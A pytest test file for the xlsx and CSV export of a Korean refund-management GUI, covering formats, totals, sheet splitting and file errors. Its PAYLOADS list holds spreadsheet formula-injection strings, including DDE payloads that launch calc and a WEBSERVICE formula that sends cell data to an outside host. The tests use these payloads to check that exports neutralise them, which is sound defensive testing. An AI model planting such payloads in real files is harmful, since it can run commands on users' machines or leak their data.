"""Exports through real readers: openpyxl and csv."""

import csv
import errno
import gc
import io
import tempfile
import unicodedata
from collections.abc import Iterator
from contextlib import closing
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from refund_gui.clock import in_korea
from refund_gui.domain.money import Money
from refund_gui.domain.outside import OutsideRefund, OutsideWay
from refund_gui.domain.refund import RefundState
from refund_gui.domain.refund_listing import HistoryFilter
from refund_gui.domain.states import Elsewhere, Outside
from refund_gui.errors import DiskFull, FileInUse, FileRefused, Stopped
from refund_gui.store import Store, open_store
from refund_gui.terminal.exporting import PAGE, Exporting, ExportKind
from refund_gui.terminal.exporting_csv import harmless
from refund_gui.terminal.exporting_files import placed
from refund_gui.terminal.exporting_xlsx import XlsxFile
from tests.store.made_up import NOW, StillClock, brought_to, entry, found_upstream, payment, refund, won
from tests.terminal.export_words import WORDS, add_refunds, all_rows

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://shop.example","여기")',
    '=WEBSERVICE("http://shop.example/"&A1)',
    "=IMPORTXML(A1,B1)",
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+82-10-1234-5678",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@",
    "=",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "﹢1+1",
    "﹣1+1",
    "﹫SUM(1)",
    "−1+1",
    "⁺1+1",
    "⁼1+1",
    " =1+1",
    "   +1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\tplain",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2060\u200d=1+1",
    "\u202e=1+1",
    "\u00ad-1+1",
    "\u3164=1+1",
    "\u2800@SUM(1)",
    "\u034f=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "\u2028=1+1",
    '"=1+1"',
    '";=1+1;"',
    "'=1+1",
    "a,=1+1",
    "a\n=1+1",
    "a\r\n=1+1",
    "<r><t>=1+1</t></r>",
    '<r></t></is></c><c r="A1"><f>1+1</f></c><c><is><t></r>',
    "<r></r>",
    "_x003D_1+1",
    "{=1+1}",
    "{=SUM(1)}",
    "http://shop.example/",
    "mailto:garam@shop.example",
    "000123",
    "1e5",
    "TRUE",
    "#N/A",
    "]]>",
    "&#61;1+1",
    "\uffff=1+1",
    "😀 =1+1",
)


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with closing(open_store(tmp_path / "data", StillClock())) as opened:
        yield opened


@pytest.fixture
def target(tmp_path: Path) -> Path:
    """A directory for exports, which holds nothing else."""
    place = tmp_path / "문서"
    place.mkdir()
    return place


def save(store: Store, path: Path, chosen: HistoryFilter | None = None, **given: Any) -> int:
    return Exporting(store, **given).save(
        path,
        ExportKind(path.suffix[1:]),
        chosen or HistoryFilter(),
        WORDS,
        lambda done, total: None,
        lambda: False,
    )


def sheet(path: Path) -> Any:
    return openpyxl.load_workbook(path).worksheets[0]


def csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, strict=True))


def add_some(store: Store) -> None:
    """A refund that succeeded, one that is checked, one in dollars, and one made elsewhere."""
    store.payments.save(
        [payment(1, cancellations=(entry("c7", reason="관리자페이지취소", cancelled_at=NOW),)), payment(2)]
    )
    store.payments.save([payment(3, amount=Money(99_99, "USD"), cancel_amount=Money(0, "USD"))])
    brought_to(store, RefundState.SUCCEEDED, 1)
    store.refunds.add(refund(2, imp_uid="imp_2", operator="김점원"), "김점원")
    dollars = {"amount": Money(12_34, "USD"), "checksum": Money(99_99, "USD")}
    store.refunds.add(found_upstream(3, imp_uid="imp_3", **dollars, cancellation_id="c8"), "")


def test_excel_shows_what_the_list_does(store: Store, target: Path) -> None:
    add_some(store)
    assert save(store, target / "a.xlsx") == 4
    made = sheet(target / "a.xlsx")
    rows = list(made.iter_rows(values_only=True))
    assert made.title == "환불 내역"
    assert rows[0] == tuple(WORDS.headers.values())
    assert rows[1] == (
        in_korea(NOW + 3).replace(tzinfo=None),
        "order-3",
        "사과 상자",
        "김가람",
        12.34,
        "USD",
        "상태 succeeded",
        "수단 card",
        "PG html5_inicis",
        "고객 변심",
        "포장이 젖음",
        "이나래",
        "계산대 1",
        "R7K2QF",
        "c8",
        "출처 found_upstream",
        None,
    )
    assert rows[4][:7] == (
        in_korea(NOW).replace(tzinfo=None),
        "order-1",
        "사과 상자",
        "김가람",
        3000,
        "KRW",
        f"상태 {Elsewhere.REFUNDED}",
    )


def test_a_note_tells_its_way_and_has_a_sum_of_its_own(store: Store, target: Path) -> None:
    store.payments.save([payment(1)])
    store.refunds.add(found_upstream(1), "")
    for n, note_id in enumerate(("a", "wrong")):
        note = OutsideRefund(note_id, "imp_1", won(500), NOW, OutsideWay.CASH, "현금으로 드림", "박가온", NOW)
        store.outside.add(note)
        if n:
            store.outside.withdraw(note_id, NOW, "")
    assert save(store, target / "a.xlsx") == 3
    rows = list(sheet(target / "a.xlsx").iter_rows(values_only=True))
    assert [(row[6], row[9], row[11], row[15]) for row in rows[2:4]] == [
        (f"상태 {Outside.TAKEN_BACK} · 방법 cash", "현금으로 드림", "박가온", "출처 here"),
        (f"상태 {Outside.NOTED} · 방법 cash", "현금으로 드림", "박가온", "출처 here"),
    ]
    assert [(row[0], row[4]) for row in rows[5:]] == [("환불 1건", 3_000), ("외부 1건", 500)]


def test_a_test_payments_refund_is_called_so_and_not_added_up(store: Store, target: Path) -> None:
    store.payments.save([payment(1), payment(2, sandbox=True)])
    store.refunds.add(found_upstream(1), "")
    store.refunds.add(found_upstream(2, imp_uid="imp_2"), "")
    save(store, target / "a.xlsx")
    rows = list(sheet(target / "a.xlsx").iter_rows(values_only=True))
    assert sorted(row[6] for row in rows[1:3]) == ["상태 succeeded", "상태 succeeded 시험"]
    assert [(row[0], row[4]) for row in rows[4:]] == [("환불 1건", found_upstream(1).amount.minor)]


def test_numbers_are_numbers_dates_dates_and_the_header_stays(store: Store, target: Path) -> None:
    add_some(store)
    save(store, target / "a.xlsx")
    made = sheet(target / "a.xlsx")
    assert made.freeze_panes == "A2"
    assert made.auto_filter.ref == "A1:Q5"
    assert [made.column_dimensions[letter].width for letter in "ABC"] == pytest.approx(
        [19.7, 24.7, 30.7], abs=0.1
    )
    assert [(cell.data_type, cell.number_format) for cell in made["A"][1:5]] == [
        ("d", "yyyy-mm-dd hh:mm:ss")
    ] * 4
    assert [(cell.data_type, cell.number_format) for cell in made["E"][1:5]] == [
        ("n", "#,##0.00"),
        ("n", "#,##0"),
        ("n", "#,##0"),
        ("n", "#,##0"),
    ]
    assert all(cell.font.bold for cell in made[1])
    assert isinstance(made["A2"].value, datetime)


def test_the_sums_stand_below_a_free_row(store: Store, target: Path) -> None:
    add_some(store)
    save(store, target / "a.xlsx")
    made = sheet(target / "a.xlsx")
    rows = list(made.iter_rows(min_row=6, values_only=True))
    assert [(row[0], row[4], row[5]) for row in rows] == [
        (None, None, None),
        ("환불 2건", 6000, "KRW"),
        ("환불 1건", 12.34, "USD"),
        ("진행 중 1건", 3000, "KRW"),
    ]
    assert (made["E7"].data_type, made["E7"].number_format, made["E8"].number_format) == (
        "n",
        "#,##0",
        "#,##0.00",
    )


def test_csv_is_what_korean_excel_opens(store: Store, target: Path) -> None:
    add_some(store)
    save(store, target / "a.csv")
    raw = (target / "a.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") == raw.count(b"\n") == 5
    rows = csv_rows(target / "a.csv")
    assert rows[0] == list(WORDS.headers.values())
    assert [row[4:6] for row in rows[1:]] == [
        ["12.34", "USD"],
        ["3000", "KRW"],
        ["3000", "KRW"],
        ["3000", "KRW"],
    ]
    assert rows[1][0] == f"{in_korea(NOW + 3):%Y-%m-%d %H:%M:%S}"


def test_only_what_is_shown_is_exported(store: Store, target: Path) -> None:
    add_some(store)
    for suffix, count in (("xlsx", 1), ("csv", 1)):
        chosen = HistoryFilter(operator="김점원")
        assert save(store, target / f"a.{suffix}", chosen) == count
    assert [row[11] for row in csv_rows(target / "a.csv")[1:]] == ["김점원"]


def test_a_method_and_a_pg_that_nobody_knows_read_as_themselves(store: Store, target: Path) -> None:
    store.payments.save([payment(1, pay_method="moonpay", pg_provider="newpg")])
    store.refunds.add(found_upstream(1), "")
    save(store, target / "a.csv")
    assert csv_rows(target / "a.csv")[1][7:9] == ["moonpay", "newpg"]


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_nothing_to_export_is_a_header(store: Store, target: Path, suffix: str) -> None:
    path = target / f"a.{suffix}"
    assert save(store, path) == 0
    rows = csv_rows(path) if suffix == "csv" else [*sheet(path).iter_rows(values_only=True)]
    assert [tuple(row) for row in rows] == [tuple(WORDS.headers.values())]


def test_an_entry_without_a_time_has_an_empty_cell(store: Store, target: Path) -> None:
    store.payments.save([payment(1, cancellations=(entry("c7", cancelled_at=0),))])
    save(store, target / "a.xlsx")
    assert sheet(target / "a.xlsx")["A2"].value is None


def with_payloads(store: Store) -> list[str]:
    """Every payload as goods, as a reason and as a note; what the store holds of each, newest first."""
    for number, payload in enumerate(PAYLOADS):
        store.payments.save([payment(number, goods=payload)])
        store.refunds.add(
            found_upstream(number, imp_uid=f"imp_{number}", reason=payload, note=payload, operator=payload),
            "",
        )
    return [row.goods for row in all_rows(store)]


def test_no_text_becomes_a_formula_in_excel(store: Store, target: Path) -> None:
    held = with_payloads(store)
    assert held == [*reversed(PAYLOADS)], "the store keeps them as they came"
    save(store, target / "a.xlsx")
    made = sheet(target / "a.xlsx")
    for column in "CJKL":
        cells = made[column][1 : len(PAYLOADS) + 1]
        assert [unescaped(cell.value) for cell in cells] == held
        assert {cell.data_type for cell in cells} == {"s"}
        assert {cell.number_format for cell in cells} == {"@"}, "a text also after somebody edits it"
        assert not any(cell.hyperlink for cell in cells)
    assert b"<f>" not in whole(target / "a.xlsx")


def test_no_text_becomes_a_formula_in_csv(store: Store, target: Path) -> None:
    held = with_payloads(store)
    save(store, target / "a.csv")
    rows = csv_rows(target / "a.csv")[1:]
    assert len(rows) == len(held)
    for row in rows:
        assert len(row) == 17
        for cell in row:
            assert not is_calculated(cell), repr(cell)
    for text, row in zip(held, rows, strict=True):
        assert seen(row[2]) in (seen(text), "'" + seen(text)), "nothing is lost but what cannot be seen"


def seen(text: str) -> str:
    return "".join(char for char in text if unicodedata.category(char) != "Cc" and char != " ")


def is_calculated(cell: str) -> bool:
    """Whether a spreadsheet may take the cell for a formula: it looks at the first sign that can be seen."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    for char in cell:
        if unicodedata.category(char) in ("Cc", "Cf", "Mn", "Zs", "Zl", "Zp") or char in "\u3164\u2800":
            continue
        return unicodedata.normalize("NFKC", char) in ("=", "+", "-", "@", "\u2212")
    return False


@pytest.mark.parametrize("text", ["", " ", "사과", "'", "1", "0-1", "a=b", "3,000원", "김=람", "2026-01-01"])
def test_harmless_texts_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


def unescaped(text: str) -> str:
    """What Excel shows of a cell: openpyxl leaves its escapes as they are."""
    from openpyxl.utils.escape import unescape

    return str(unescape(text))


def whole(path: Path) -> bytes:
    """All parts of a workbook."""
    from zipfile import ZipFile

    with ZipFile(path) as book:
        return b"".join(map(book.read, book.namelist()))


def test_a_text_longer_than_a_cell_is_cut(target: Path) -> None:
    with (target / "a.xlsx").open("wb") as file:
        made = XlsxFile(file, "S", ["A"], [9])
        made.add(["가" * 40_000])
        made.add(["😀" * 20_000])
        made.end([])
    values = [cell.value for cell in sheet(target / "a.xlsx")["A"][1:]]
    assert values == ["가" * 32_767, "😀" * 16_383]


def test_what_one_sheet_does_not_hold_stands_on_the_next(target: Path) -> None:
    with (target / "a.xlsx").open("wb") as file:
        made = XlsxFile(file, "환불", ["A"], [9], rows=3)
        for number in range(7):
            made.add([won(number)])
        made.end([[won(21)]])
    book = openpyxl.load_workbook(target / "a.xlsx")
    assert book.sheetnames == ["환불", "환불 2", "환불 3"]
    assert [[cell.value for cell in one["A"]] for one in book.worksheets] == [
        ["A", 0, 1, 2],
        ["A", 3, 4, 5],
        ["A", 6, None, 21],
    ]


@pytest.mark.parametrize("currency", ["KRW", "USD", "KWD", "XYZ"])
def test_amounts_have_their_currencys_decimals(target: Path, currency: str) -> None:
    amount = Money(123_456_789, currency)
    with (target / "a.xlsx").open("wb") as file:
        made = XlsxFile(file, "S", ["A"], [9])
        made.add([amount])
        made.end([])
    cell = sheet(target / "a.xlsx")["A2"]
    assert cell.value == pytest.approx(float(amount.as_decimal()), rel=1e-15)
    assert (
        cell.number_format
        == {
            "KRW": "#,##0",
            "USD": "#,##0.00",
            "KWD": "#,##0.000",
            "XYZ": "#,##0.0000",
        }[currency]
    )


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_progress_is_told_and_a_stop_leaves_nothing(store: Store, target: Path, suffix: str) -> None:
    add_refunds(store, 2 * PAGE + 1)
    told: list[tuple[int, int]] = []
    path = target / f"a.{suffix}"
    count = Exporting(store).save(
        path, ExportKind(suffix), HistoryFilter(), WORDS, lambda *done: told.append(done), lambda: False
    )
    assert told == [(PAGE, count), (2 * PAGE, count), (count, count)]
    before = path.read_bytes()
    told.clear()
    with pytest.raises(Stopped):
        Exporting(store).save(
            path,
            ExportKind(suffix),
            HistoryFilter(),
            WORDS,
            lambda *done: told.append(done),
            lambda: len(told) == 2,
        )
    assert path.read_bytes() == before, "what was there before is still there"
    assert list(target.iterdir()) == [path]


def test_a_refund_that_comes_meanwhile_changes_nothing(store: Store, target: Path) -> None:
    add_refunds(store, PAGE + 1)
    told: list[tuple[int, int]] = []

    def report(done: int, total: int) -> None:
        told.append((done, total))
        if done == PAGE:
            store.refunds.add(refund(9_999, imp_uid="imp_9999"), "")

    Exporting(store).save(target / "a.csv", ExportKind.CSV, HistoryFilter(), WORDS, report, lambda: False)
    assert told == [(PAGE, PAGE + 1), (PAGE + 1, PAGE + 1)]
    names = [row[1] for row in csv_rows(target / "a.csv")[1:]]
    assert len(set(names)) == len(names) == PAGE + 1


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_a_file_that_excel_has_open_is_told(store: Store, target: Path, suffix: str) -> None:
    path = target / f"a.{suffix}"
    path.write_text("open in Excel")

    def refused(beside: str, there: Path) -> None:
        raise PermissionError(errno.EACCES, "The process cannot access the file")

    with pytest.raises(FileInUse) as told:
        save(store, path, replace=refused)
    assert told.value.path == str(path)
    assert [one.read_text() for one in target.iterdir()] == ["open in Excel"]


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_a_place_that_takes_no_file_is_told(store: Store, target: Path, suffix: str) -> None:
    with pytest.raises(FileRefused):
        save(store, target / "nowhere" / f"a.{suffix}")
    (target / f"a.{suffix}").mkdir()
    with pytest.raises(FileRefused):
        save(store, target / f"a.{suffix}")
    assert [one.name for one in target.iterdir()] == [f"a.{suffix}"]


def test_a_full_disk_is_told(target: Path) -> None:
    with pytest.raises(DiskFull), placed(target / "a.csv"):
        raise OSError(errno.ENOSPC, "No space left on device")
    assert list(target.iterdir()) == []


def test_a_full_disk_while_the_workbook_is_put_together() -> None:
    with open("/dev/full", "wb", buffering=0) as full:
        made = XlsxFile(full, "S", ["A"], [9])
        with pytest.raises(OSError, match="No space left"):
            made.end([])


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_no_room_for_the_workbooks_parts(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """XlsxWriter leaves its file of rows open then, which Python tells when it collects it: here."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    made = XlsxFile(io.BytesIO(), "S", ["A"], [9])
    (parts,) = tmp_path.iterdir()
    parts.rename(tmp_path / "gone")
    with pytest.raises(FileNotFoundError):
        made.end([])
    del made
    gc.collect()
